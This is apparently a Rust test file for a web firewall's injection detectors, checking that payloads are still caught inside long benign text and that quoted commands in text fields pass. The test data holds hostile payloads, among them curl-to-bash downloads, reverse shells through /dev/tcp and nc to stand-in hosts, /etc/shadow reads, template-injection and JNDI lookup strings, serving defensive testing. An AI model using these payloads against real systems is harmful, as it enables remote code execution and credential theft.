//! Tests that an attack is found whatever text is around it, in a field that is not for text.

use std::sync::LazyLock;

use crate::{Analysis, Class, Detectors, Level, Location, Place};

/// These only: what others make of the text around is their matter.
static DETECTORS: LazyLock<Detectors> = LazyLock::new(|| {
    Detectors::of(vec![
        Box::new(super::command::Command::new()),
        Box::new(super::code::Code::new()),
        Box::new(super::template::Template::new()),
        Box::new(super::deserialization::Deserialization::new()),
        Box::new(super::log4j::Log4j),
        Box::new(super::crlf::Crlf),
    ])
    .expect("their weights are read")
});

/// True if `balanced` blocks `text` by `class`.
fn is_found(class: Class, text: &[u8]) -> bool {
    let mut analysis = Analysis::new();
    analysis.value(&DETECTORS, Location::new(Place::Query, b"q"), text);
    analysis.scores(&DETECTORS).any(|score| score.class == class && score.blocks(Level::Balanced))
}

/// Texts of people and programs.
const TEXTS: &[&str] = &[
    "the boats come back to the harbour before the storm and it's said that nobody sails on Mondays ",
    "red, green, blue, apples; pears; north, south, 12, 37 | 40, ",
    "{\"id\": 17, \"name\": \"Ann\", \"tags\": [\"a\", \"b\"], \"ok\": true}, ",
    "<p>Some <b>bold</b> text and a <a href=\"/about\">link</a>.</p>\n",
    "SSByZWFsbHkgbGlrZWQgdGhlIGFydGljbGUK",
    "A",
];

fn repeated(unit: &str, bytes: usize) -> Vec<u8> {
    unit.repeat(bytes.div_ceil(unit.len())).into_bytes()
}

#[track_caller]
fn survives(class: Class, payloads: &[&str], decoys: &[&str]) {
    for payload in payloads {
        assert!(is_found(class, payload.as_bytes()), "{payload} alone");
        // A letter before it would make another word of it.
        let joint = if payload.as_bytes()[0].is_ascii_alphanumeric() { " " } else { "" };
        for (unit, sizes) in TEXTS
            .iter()
            .map(|unit| (unit, &[10, 100, 1_000, 20_000][..]))
            .chain(decoys.iter().map(|unit| (unit, &[60, 2_000][..])))
        {
            for &size in sizes {
                let before = repeated(unit, size);
                let text = [&before, joint.as_bytes(), payload.as_bytes()].concat();
                assert!(is_found(class, &text), "{payload} after {size} bytes of {unit:?}");
                let text = [&before, joint.as_bytes(), payload.as_bytes(), b"\n", &before].concat();
                assert!(is_found(class, &text), "{payload} in the middle of {size} bytes of {unit:?}");
            }
        }
    }
}

#[test]
fn commands() {
    let payloads = [
        ";tac /etc/group",
        "|base64 /etc/hostname",
        "&&wget http://a.example/k -O /tmp/k",
        "$(curl -s http://a.example/k|bash)",
        ";ba''sh -c 'exec 5<>/dev/tcp/192.0.2.7/99'",
        "||nslookup x.a.example",
        "\nid;uname -a",
        ";timeout 3 nc 192.0.2.7 99 -e /bin/sh",
        ";x=whoa;y=mi;$x$y",
        "&type C:\\Windows\\win.ini",
    ];
    survives(
        Class::Command,
        &payloads,
        &["it's ", "\"", "{{ a }} ", "<b> ", "${x} ", "(", "; x", "| y ", "a=1;", "\n"],
    );
}

#[test]
fn templates() {
    let payloads = [
        "{{9*9}}",
        "{{cycler.__init__.__globals__.os.popen('ls').read()}}",
        "${T(java.lang.Runtime).getRuntime().exec('ls')}",
        "<%= `ls` %>",
        "#{7*191}",
        "{{['ls']|map('passthru')|join}}",
    ];
    survives(Class::Template, &payloads, &["it's ", "\"", "`", "{{ a }} ", "<b> ", "(", "; x", "\n"]);
}

#[test]
fn code() {
    let payloads = [
        "<?php passthru('ls');?>",
        ";passthru('ls');",
        "__import__('os').popen('ls').read()",
        "require('child_process').execSync('ls')",
        "(new java.lang.ProcessBuilder(new String[]{\"ls\"})).start()",
        "getattr(os,'popen')('ls')",
        "(pass.(th).ru)(ls)",
    ];
    survives(Class::Code, &payloads, &["it's ", "{{ a }} ", "<b> ", "; x", "a=1;", "\n"]);
}

#[test]
fn lookups_and_objects() {
    let lookups = [
        "${jndi:ldap://a.example/x}",
        "${${::-j}ndi:rmi://a.example/x}",
        "${${lower:J}${lower:N}di:dns://a.example}",
    ];
    survives(Class::Log4j, &lookups, &["it's ", "\"", "`", "{{ a }} ", "<b> ", "(", "}", "\n"]);
    let objects = [
        "O:8:\"Monolog1\":1:{s:1:\"a\";i:1;}",
        "!!python/object/apply:os.system [\"ls\"]",
        "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\"}",
    ];
    survives(Class::Deserialization, &objects, &["{{ a }} ", "<b> ", "; x", "\n"]);
    survives(Class::Crlf, &["\r\nSet-Cookie: a=b"], &["it's ", "\"", "<b> ", "; x"]);
}

/// What a field for texts shows is no attack; the same words as a command at work are.
#[test]
fn quotations() {
    let look = |text: &str| {
        crate::detectors::testing::look(Class::Command, Place::Json, "post.body", text.as_bytes())
    };
    for text in [
        "Run `cat /etc/passwd | sort` to list them.",
        "First:\n\n```sh\ncurl -fsSL http://a.example/install.sh | bash\n```\nThen reboot.",
        "<p>Try <code>find / -perm -4000; cat /etc/shadow</code> now</p>",
        "$ ps aux | grep nginx; cat /etc/nginx/nginx.conf",
    ] {
        let (have, is_blocked) = look(text);
        assert!(!is_blocked, "{text}: {have}");
    }
    for text in ["I really liked the article;cat /etc/passwd", "thanks $(curl http://a.example/x|sh)"] {
        let (have, is_blocked) = look(text);
        assert!(is_blocked, "{text}: {have}");
    }
}
